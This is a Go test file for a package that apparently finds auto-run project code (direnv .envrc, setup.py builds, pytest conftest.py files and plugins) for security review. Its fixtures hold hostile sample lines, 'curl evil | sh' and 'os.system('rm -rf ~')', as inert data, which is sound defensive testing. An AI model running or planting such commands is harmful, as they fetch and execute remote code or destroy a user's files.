package runfiles

import (
	"fmt"
	"reflect"
	"testing"
)

func TestEnvrc(t *testing.T) {
	files := Map{"/p/.envrc": "export X=1\ncurl evil | sh\n", "/p/sub/x.txt": "", "/q/custom.sh": "echo\n", "/r/.env": "X=1\n"}
	tests := []struct {
		path, want string
	}{
		{"/p", "/p/.envrc"},
		{"/p/sub", "/p/.envrc"}, // direnv finds the nearest one above
		{"/p/.envrc", "/p/.envrc"},
		{"/q/custom.sh", "/q/custom.sh"},
		{"/r", ""}, // .env is read only with load_dotenv
		{"/nowhere", ""},
	}
	for _, tt := range tests {
		got, ok := Envrc(files, tt.path)
		if ok != (tt.want != "") || got.Path != tt.want {
			t.Errorf("Envrc(%s) = %q %v, want %q", tt.path, got.Path, ok, tt.want)
		}
		if ok && got.Lang != "shell" {
			t.Errorf("Envrc(%s).Lang = %q", tt.path, got.Lang)
		}
	}
	if got, ok := Envrc(errTree(Map{}, "/s/.envrc"), "/s"); !ok || got.Path != "/s/.envrc" {
		t.Errorf("an unreadable .envrc is still there: got %q %v", got.Path, ok)
	}
}

func TestSetupPy(t *testing.T) {
	setup := "from setuptools import setup\nimport os; os.system('rm -rf ~')\nsetup()\n"
	files := Map{
		"/p/setup.py":                    setup,
		"/p/lib/setup.py":                setup,
		"/p/lib/pyproject.toml":          "[build-system]\nrequires = [\"setuptools\"]\n",
		"/p/modern/pyproject.toml":       "[build-system]\nbuild-backend = \"hatchling.build\"\n",
		"/p/intree/pyproject.toml":       "[build-system]\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n",
		"/p/empty/README":                "",
		"/p/requirements.txt":            "requests==2.0\n-e ./lib\n# -e ./modern\n./modern[dev] \\\n  ; python_version > '3'\n-r more.txt\n",
		"/p/more.txt":                    "-r requirements.txt\n--editable=/abs\n",
		"/abs/setup.py":                  setup,
		"/p/dist/x-1.0.tar.gz":           "…",
		"/p/dist/x-1.0-py3-none-any.whl": "…",
		"/p/loop.txt":                    "-r loop.txt\n",
		"/p/r1.txt":                      "-r r2.txt\n", "/p/r2.txt": "-r r3.txt\n", "/p/r3.txt": "-r r4.txt\n", "/p/r4.txt": "-r r5.txt\n",
		"/p/r5.txt": "-r r6.txt\n", "/p/r6.txt": "-r r7.txt\n", "/p/r7.txt": "-r r8.txt\n", "/p/r8.txt": "-r r9.txt\n", "/p/r9.txt": "-e /abs\n",
	}
	tests := []struct {
		name    string
		args    []string
		want    []string
		dynamic string
	}{
		{name: "install .", args: []string{"install", "."}, want: []string{"/p/setup.py"}},
		{name: "install -e .", args: []string{"install", "-e", "."}, want: []string{"/p/setup.py"}},
		{name: "install --editable=./lib", args: []string{"install", "--editable=./lib"}, want: []string{"/p/lib/setup.py"}},
		{name: "install ./lib[dev] with options", args: []string{"install", "-U", "--no-deps", "-i", "https://x", "./lib[dev]"}, want: []string{"/p/lib/setup.py"}},
		{name: "pyproject only", args: []string{"install", "./modern"}}, // a declarative backend runs no project code
		{name: "in-tree backend", args: []string{"install", "./intree"}, dynamic: "backend-path"},
		{name: "neither: nothing builds", args: []string{"install", "./empty"}},
		{name: "a package name", args: []string{"install", "requests"}},
		{name: "a URL", args: []string{"install", "git+https://x/y.git"}},
		{name: "file URL", args: []string{"install", "file:///p/lib"}, want: []string{"/p/lib/setup.py"}},
		{name: "name @ file URL", args: []string{"install", "lib @ file:///abs"}, want: []string{"/abs/setup.py"}},
		{name: "source archive", args: []string{"install", "dist/x-1.0.tar.gz"}, dynamic: "source archive"},
		{name: "wheel runs no build code", args: []string{"install", "dist/x-1.0-py3-none-any.whl"}},
		{name: "requirements file", args: []string{"install", "-r", "requirements.txt"},
			want: []string{"/p/lib/setup.py", "/abs/setup.py"}},
		{name: "requirements loop", args: []string{"install", "-r", "loop.txt"}},
		{name: "requirements chain past the bound", args: []string{"install", "-r", "r1.txt"}, dynamic: "more than"},
		{name: "missing requirements", args: []string{"install", "-r", "gone.txt"}},
		{name: "dynamic operand", args: []string{"install", "$PKG"}, dynamic: "known only at run time"},
		{name: "wheel .", args: []string{"wheel", "-w", "out", "."}, want: []string{"/p/setup.py"}},
		{name: "-r value is no operand", args: []string{"download", "-d", ".", "requests"}},
		{name: "uninstall builds nothing", args: []string{"uninstall", "."}},
		{name: "list", args: []string{"list"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			found, dyn := SetupPy(files, "/p", words(tt.args...))
			checkFound(t, found, dyn, tt.want, tt.dynamic)
			for _, f := range found {
				if f.Lang != "python" {
					t.Errorf("%s: Lang %q", f.Path, f.Lang)
				}
			}
		})
	}
}

func TestConftests(t *testing.T) {
	tree := Map{
		"/p/pytest.ini":                       "[pytest]\n",
		"/p/conftest.py":                      "import os\nos.system('curl evil | sh')\n",
		"/p/src/app.py":                       "",
		"/p/tests/conftest.py":                "",
		"/p/tests/unit/conftest.py":           "",
		"/p/tests/unit/test_a.py":             "",
		"/p/tests/.hidden/conftest.py":        "",
		"/p/tests/node_modules/x/conftest.py": "",
		"/p/tests/build/conftest.py":          "",
		"/p/tests/pkg.egg/conftest.py":        "",
		"/p/tests/env/pyvenv.cfg":             "",
		"/p/tests/env/lib/conftest.py":        "",
		"/p/tests/__pycache__/conftest.py":    "",
		"/p/other/conftest.py":                "",
		"/conftest.py":                        "", // above the ini: not loaded
	}
	dirs := MapDirs{Files: tree}
	tests := []struct {
		name    string
		cwd     string
		args    []string
		files   Map
		links   []string
		want    []string
		dynamic string
	}{
		{name: "no args: cwd and all under it", cwd: "/p", want: []string{"/p/conftest.py", "/p/other/conftest.py", "/p/tests/conftest.py", "/p/tests/unit/conftest.py"}},
		{name: "from a subdirectory: up to the ini", cwd: "/p/tests/unit", want: []string{"/p/conftest.py", "/p/tests/conftest.py", "/p/tests/unit/conftest.py"}},
		{name: "a test path", cwd: "/p", args: []string{"tests"}, want: []string{"/p/conftest.py", "/p/tests/conftest.py", "/p/tests/unit/conftest.py"}},
		{name: "a test file and node id", cwd: "/p", args: []string{"-x", "tests/unit/test_a.py::test_one"},
			want: []string{"/p/conftest.py", "/p/tests/conftest.py", "/p/tests/unit/conftest.py"}},
		{name: "option values are no test paths", cwd: "/p", args: []string{"-k", "other", "tests/unit"}, want: []string{"/p/conftest.py", "/p/tests/conftest.py", "/p/tests/unit/conftest.py"}},
		{name: "--noconftest", cwd: "/p", args: []string{"--noconftest"}},
		{name: "-p of a project module is read", cwd: "/r", args: []string{"-p", "plug", "--noconftest"}, files: Map{"/r/plug.py": "import shutil\n"},
			want: []string{"/r/plug.py"}},
		{name: "-p of a project package on a dotted path", cwd: "/r", args: []string{"-p", "pk.sub", "--noconftest"}, files: Map{"/r/pk/__init__.py": "", "/r/pk/sub.py": ""},
			want: []string{"/r/pk/__init__.py", "/r/pk/sub.py"}},
		{name: "addopts -p of a module beside the ini", cwd: "/s/t", files: Map{"/s/pytest.ini": "[pytest]\naddopts = -p evilplug\n", "/s/evilplug.py": "", "/s/t/x": ""},
			want: []string{"/s/evilplug.py"}},
		{name: "addopts -p of an installed plugin", cwd: "/s2", files: Map{"/s2/pytest.ini": "[pytest]\naddopts = -p xdist\n"}, dynamic: "loads plugin xdist"},
		{name: "-p plugin", cwd: "/p", args: []string{"-p", "evil", "-p", "no:cacheprovider", "--noconftest"}, dynamic: "loads plugin evil"},
		{name: "dynamic test path", cwd: "/p/src", args: []string{"$T"}, want: []string{"/p/conftest.py"}, dynamic: "known only at run time"},
		{name: "dynamic option", cwd: "/p/src", args: []string{"$OPTS", "--noconftest"}, want: []string{"/p/conftest.py"}, dynamic: "option known only at run time"},
		{name: "--confcutdir", cwd: "/p/tests/unit", args: []string{"--confcutdir=/p/tests"}, want: []string{"/p/tests/conftest.py", "/p/tests/unit/conftest.py"}},
		{name: "--pyargs", cwd: "/p/src", args: []string{"--pyargs", "pkg"}, want: []string{"/p/conftest.py"}, dynamic: "installed packages"},
		{name: "no ini: rootdir is the test paths' ancestor", cwd: "/q/t", files: Map{"/q/conftest.py": "", "/q/t/conftest.py": ""},
			want: []string{"/q/t/conftest.py"}},
		{name: "no ini, a setup.py above", cwd: "/q/t", files: Map{"/q/setup.py": "", "/q/conftest.py": "", "/q/t/conftest.py": ""},
			want: []string{"/q/conftest.py", "/q/t/conftest.py"}},
		{name: "pyproject.toml with pytest section", cwd: "/q/t", files: Map{"/q/pyproject.toml": "[tool.pytest.ini_options]\n", "/q/conftest.py": "", "/q/t/conftest.py": ""},
			want: []string{"/q/conftest.py", "/q/t/conftest.py"}},
		{name: "tox.ini without [pytest] is no ini", cwd: "/q/t", files: Map{"/q/tox.ini": "[tox]\n", "/q/conftest.py": "", "/q/t/conftest.py": ""},
			want: []string{"/q/t/conftest.py"}},
		{name: "ini sets norecursedirs", cwd: "/q", files: Map{"/q/setup.cfg": "[tool:pytest]\nnorecursedirs = x\n", "/q/conftest.py": ""},
			want: []string{"/q/conftest.py"}, dynamic: "norecursedirs"},
		{name: "ini addopts loads a plugin", cwd: "/q", files: Map{"/q/pytest.ini": "[pytest]\naddopts = -ra\n  -p evil -p no:cacheprovider\n"},
			dynamic: "addopts -p evil"},
		{name: "TOML addopts array", cwd: "/q", files: Map{"/q/pyproject.toml": "[tool.pytest.ini_options]\naddopts = [\n  \"-p\", \"evil\",\n]\n"},
			dynamic: "addopts -p evil"},
		{name: "a link to a directory", cwd: "/q", files: Map{"/q/conftest.py": "", "/q/ln/conftest.py": ""}, links: []string{"/q/ln"},
			want: []string{"/q/conftest.py"}, dynamic: "not followed"},
		{name: "explicit path into a skipped directory", cwd: "/p", args: []string{"tests/build"}, want: []string{"/p/conftest.py", "/p/tests/conftest.py", "/p/tests/build/conftest.py"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var files Files = tree
			d := Dirs(dirs)
			if tt.files != nil {
				files, d = tt.files, MapDirs{Files: tt.files, Links: tt.links}
			}
			found, dyn := Conftests(files, d, tt.cwd, words(tt.args...))
			checkFound(t, conftestsOnly(found), dyn, tt.want, tt.dynamic)
		})
	}
}

// conftestsOnly drops the test modules Conftests finds.
func conftestsOnly(found []Triggered) []Triggered {
	var out []Triggered
	for _, t := range found {
		if !t.BestEffort {
			out = append(out, t)
		}
	}
	return out
}

func TestPytestTestModules(t *testing.T) {
	tree := Map{
		"/p/pytest.ini":             "[pytest]\n",
		"/p/tests/test_a.py":        "",
		"/p/tests/b_test.py":        "",
		"/p/tests/helper.py":        "",
		"/p/tests/unit/test_c.py":   "",
		"/p/node_modules/test_x.py": "",
		"/p/.venv/test_y.py":        "",
		"/c/pytest.ini":             "[pytest]\npython_files = check_*.py\n",
		"/c/check_a.py":             "",
		"/c/test_b.py":              "",
		"/t/pyproject.toml":         "[tool.pytest.ini_options]\npython_files = [\"spec_*.py\"]\n",
		"/t/spec_a.py":              "",
	}
	for i := range MaxTestModules + 3 {
		tree[fmt.Sprintf("/many/test_%02d.py", i)] = ""
	}
	tests := []struct {
		name, cwd string
		args      []string
		want      []string
	}{
		{"collected by pytest's names", "/p", nil, []string{"/p/tests/b_test.py", "/p/tests/test_a.py", "/p/tests/unit/test_c.py"}},
		{"a file named", "/p", []string{"tests/helper.py::test_x"}, []string{"/p/tests/helper.py"}},
		{"a missing file", "/p", []string{"tests/none.py"}, nil},
		{"a directory", "/p", []string{"tests/unit"}, []string{"/p/tests/unit/test_c.py"}},
		{"ini python_files", "/c", nil, []string{"/c/check_a.py"}},
		{"TOML python_files", "/t", nil, []string{"/t/spec_a.py"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			found, _ := Conftests(tree, MapDirs{Files: tree}, tt.cwd, words(tt.args...))
			var got []string
			for _, f := range found {
				if f.BestEffort {
					got = append(got, f.Path)
				}
			}
			if !reflect.DeepEqual(got, tt.want) {
				t.Errorf("test modules = %q, want %q", got, tt.want)
			}
		})
	}
	t.Run("bounded, and past the bound no unknown", func(t *testing.T) {
		found, dyn := Conftests(tree, MapDirs{Files: tree}, "/many", nil)
		if len(found) != MaxTestModules || len(dyn) != 0 {
			t.Errorf("found %d test modules (dynamic %q), want %d and none", len(found), dyn, MaxTestModules)
		}
	})
}

func TestConftestsBounds(t *testing.T) {
	tree := Map{"/p/pytest.ini": "[pytest]\n"}
	for i := range MaxConftests + 5 {
		tree[fmtPath("/p/t%03d/conftest.py", i)] = ""
	}
	found, dyn := Conftests(tree, MapDirs{Files: tree}, "/p", nil)
	if len(found) != MaxConftests {
		t.Errorf("found %d conftest.py files, want the bound %d", len(found), MaxConftests)
	}
	checkFound(t, nil, dyn, nil, "more than")

	deep := Map{"/d/pytest.ini": "[pytest]\n"}
	for i := range MaxConftestDirs + 1 {
		deep[fmtPath("/d/x%04d/f", i)] = ""
	}
	_, dyn = Conftests(deep, MapDirs{Files: deep}, "/d", nil)
	checkFound(t, nil, dyn, nil, "more directories than")
}

// fmtPath is fmt.Sprintf for test paths.
func fmtPath(format string, i int) string { return fmt.Sprintf(format, i) }
